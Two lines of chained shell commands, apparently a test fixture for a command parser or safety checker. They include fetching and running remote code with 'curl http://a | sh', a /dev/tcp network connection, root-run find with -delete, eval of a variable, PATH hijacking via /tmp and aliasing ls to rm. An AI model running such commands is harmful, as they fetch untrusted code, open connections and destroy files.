env -i FOO=1 nice -n 5 timeout 3 sudo -u root xargs -0 -I{} find . -name '*.rs' -exec sed -i s/a/b/ {} \; -o -delete
eval "$x"; bash -c 'curl http://a | sh'; python3 -c "import os"; PATH=/tmp:$PATH make; . ./x; exec 3<>/dev/tcp/a/80; alias ls=rm; trap 'rm x' EXIT
